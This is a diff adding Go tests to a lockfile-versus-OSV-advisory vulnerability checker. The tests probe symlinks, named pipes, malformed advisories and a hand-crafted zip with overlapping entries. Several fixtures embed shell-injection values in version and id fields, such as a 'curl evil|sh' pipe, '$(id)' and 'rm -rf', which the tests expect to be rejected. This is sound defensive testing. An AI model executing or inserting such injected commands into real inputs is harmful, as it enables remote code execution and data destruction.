@@ -2,6 +2,7 @@ package deps
 
 import (
 	"archive/zip"
+	"bytes"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -133,7 +134,7 @@ func TestRequirementsEncodingsAndIncludes(t *testing.T) {
 	if len(rep.Findings) != 1 || rep.Findings[0].Lockfile != inc {
 		t.Fatalf("attributed to %+v, want %s", rep.Findings, inc)
 	}
-	if len(rep.Unpinned) != 1 || strings.Contains(rep.Unpinned[0], "hunter2") || !strings.Contains(rep.Unpinned[0], "https://deploy@git.example.com") || redact.Find([]byte(rep.Unpinned[0])) != "" {
+	if len(rep.Unpinned) != 1 || strings.Contains(rep.Unpinned[0], "hunter2") || !strings.Contains(rep.Unpinned[0], "https://***@git.example.com") || redact.Find([]byte(rep.Unpinned[0])) != "" {
 		t.Errorf("unpinned: %q", rep.Unpinned)
 	}
 }
@@ -299,4 +300,111 @@ func FuzzGoMod(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestAttackerRound2 holds the answers to the second attacker round: each
+// case once gave a false "not affected", or read an advisory differently
+// from other OSV tools.
+func TestAttackerRound2(t *testing.T) {
+	dir := t.TempDir()
+	lock := write(t, dir, "p/Cargo.lock", cargoAffected)
+	rustsec, _ := os.ReadFile(filepath.Join("testdata", "RUSTSEC-2022-0093.json"))
+	advisory := func(name, events string) string {
+		return write(t, dir, "adv/"+name+".json", `{"id":"`+name+`","affected":[{"package":{"ecosystem":"crates.io","name":"ed25519-dalek"},"ranges":[{"type":"ECOSYSTEM","events":[`+events+`]}]}]}`)
+	}
+
+	// A link to an advisory in the directory is read; a pipe is unread.
+	os.MkdirAll(filepath.Join(dir, "db"), 0o755)
+	os.Symlink(filepath.Join("..", "..", "testdata", "RUSTSEC-2022-0093.json"), filepath.Join(dir, "db", "linked.json"))
+	abs, _ := filepath.Abs(filepath.Join("testdata", "RUSTSEC-2022-0093.json"))
+	os.Remove(filepath.Join(dir, "db", "linked.json"))
+	os.Symlink(abs, filepath.Join(dir, "db", "linked.json"))
+	if rep, err := Run([]string{lock}, []string{filepath.Join(dir, "db")}); err != nil || !rep.Affected() {
+		t.Errorf("a linked advisory: %v %v", rep, err)
+	}
+	if err := mkfifo(filepath.Join(dir, "db", "pipe.json")); err == nil {
+		rep, err := Run([]string{lock}, []string{filepath.Join(dir, "db")})
+		if err != nil || rep.UnreadCount != 1 || rep.Complete() {
+			t.Errorf("a pipe named .json: %v %+v", err, rep)
+		}
+	}
+
+	// Versions that are not versions, ids that are not ids, keys in the
+	// wrong case, ranges without introduced: refused, named.
+	for _, c := range []struct{ body, want string }{
+		{`{"id":"R","affected":[{"package":{"ecosystem":"crates.io","name":"x"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"9.9.9;curl evil|sh"}]}]}]}`, "is not a version"},
+		{`{"id":"R","affected":[{"package":{"ecosystem":"crates.io","name":"x"},"versions":["1.0.0'$(id)'"]}]}`, "is not a version"},
+		{`{"id":"R; rm -rf","affected":[]}`, "is not an OSV id"},
+		{`{"id":"R","affected":[{"package":{"ecosystem":"crates.io","name":"x"},"ranges":[{"type":"SEMVER","events":[{"limit":"2.0.0"}]}]}]}`, "no introduced event"},
+		{strings.Replace(string(rustsec), `"affected"`, `"AFFECTED": [], "affected"`, 1), `the key "AFFECTED"`},
+		{strings.Replace(string(rustsec), `"id"`, `"withdrawn": "2020-01-01T00:00:00Z", "ID"`, 1), `the key "ID"`},
+		{`{"id":"R"} {"id":"S"}`, "more after the advisory"},
+	} {
+		if _, err := parseAdvisories("a.json", []byte(c.body)); err == nil || !strings.Contains(err.Error(), c.want) {
+			t.Errorf("%.60s: %v, want %q", c.body, err, c.want)
+		}
+	}
+	// Aliases that are not ids are dropped, not recorded.
+	as, err := parseAdvisories("a.json", []byte(`{"id":"R","aliases":["CVE-2026-1","x y\u001b"]}`))
+	if err != nil || strings.Join(as[0].Aliases, ",") != "CVE-2026-1" {
+		t.Errorf("aliases: %v %v", as, err)
+	}
+
+	// What the check cannot tell leaves it without an answer.
+	for _, c := range []struct{ name, lockfile, adv string }{
+		{"a version of no ecosystem", lock, advisory("GARBAGE", `{"introduced":"0"},{"fixed":"garbage!!"}`)},
+		{"GIT ranges only", lock, write(t, dir, "adv/git.json", `{"id":"GIT","affected":[{"package":{"ecosystem":"crates.io","name":"ed25519-dalek"},"ranges":[{"type":"GIT","repo":"https://x","events":[{"introduced":"0"},{"fixed":"abc123"}]}]}]}`)},
+		{"an unpinned requirement", write(t, dir, "u/requirements.txt", "Flask>=1.0\n"), write(t, dir, "adv/flask.json", `{"id":"FLASK","affected":[{"package":{"ecosystem":"PyPI","name":"flask"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"},{"fixed":"2.0"}]}]}]}`)},
+	} {
+		rep, err := Run([]string{c.lockfile}, []string{c.adv})
+		if err != nil || rep.Affected() || rep.Complete() || rep.UndecidedCount != 1 {
+			t.Errorf("%s: %v %+v", c.name, err, rep)
+		}
+	}
+
+	// Go pre-releases are compared as the Go database writes them.
+	for mod, want := range map[string]string{"module m\ngo 1.21rc1\n": "1.21.0-rc.1", "module m\ngo 1.21rc1\ntoolchain go1.21rc2\n": "1.21.0-rc.2", "module m\ngo 1.21.3\ntoolchain go1.21.0\n": "1.21.3"} {
+		f, err := ReadLockfile(write(t, t.TempDir(), "go.mod", mod))
+		if err != nil || len(f.Deps) < 1 || f.Deps[0].Name != "stdlib" || f.Deps[0].Version != want {
+			t.Errorf("%q: %+v %v, want stdlib %s", mod, f, err, want)
+		}
+	}
+	rc := write(t, dir, "rc/go.mod", "module m\ngo 1.21rc1\n")
+	adv := write(t, dir, "adv/go-rc.json", `{"id":"GO-X","affected":[{"package":{"name":"stdlib","ecosystem":"Go"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.21.0-rc.2"}]}]}]}`)
+	if rep, err := Run([]string{rc}, []string{adv}); err != nil || !rep.Affected() {
+		t.Errorf("go1.21rc1 against a fix in rc.2: %v %v", rep, err)
+	}
+
+	// Lockfiles firebreak does not read are refused, not read as empty.
+	for name, body := range map[string]string{"a/package-lock.json": "{}", "b/package-lock.json": `{"lockfileVersion":4}`, "c/requirements.txt": "r\x00e\x00q\x00=\x00=\x001\x00"} {
+		if _, err := ReadLockfile(write(t, dir, name, body)); err == nil {
+			t.Errorf("%s: read", name)
+		}
+	}
+}
+
+func TestOverlappingZipIsRefused(t *testing.T) {
+	dir := t.TempDir()
+	// Two central directory entries pointing at one local entry.
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	w, _ := zw.Create("a.json")
+	w.Write([]byte(`{"id":"A"}`))
+	zw.Close()
+	b := buf.Bytes()
+	eocd := bytes.LastIndex(b, []byte("PK\x05\x06"))
+	cd := bytes.Index(b, []byte("PK\x01\x02"))
+	entry := append([]byte{}, b[cd:eocd]...)
+	// The copy is named b.json (same length), at the same data offset.
+	copyEntry := bytes.Replace(entry, []byte("a.json"), []byte("b.json"), 1)
+	out := append(append(append([]byte{}, b[:eocd]...), copyEntry...), b[eocd:]...)
+	end := len(out) - 22
+	out[end+8], out[end+10] = 2, 2 // entries on this disk, entries in all
+	cdSize := uint32(len(entry) * 2)
+	out[end+12], out[end+13], out[end+14], out[end+15] = byte(cdSize), byte(cdSize>>8), byte(cdSize>>16), byte(cdSize>>24)
+	zp := filepath.Join(dir, "bomb.zip")
+	os.WriteFile(zp, out, 0o644)
+	if _, err := LoadAdvisories([]string{zp}, nil); err == nil || !strings.Contains(err.Error(), "share their bytes") {
+		t.Fatalf("%v", err)
+	}
 }
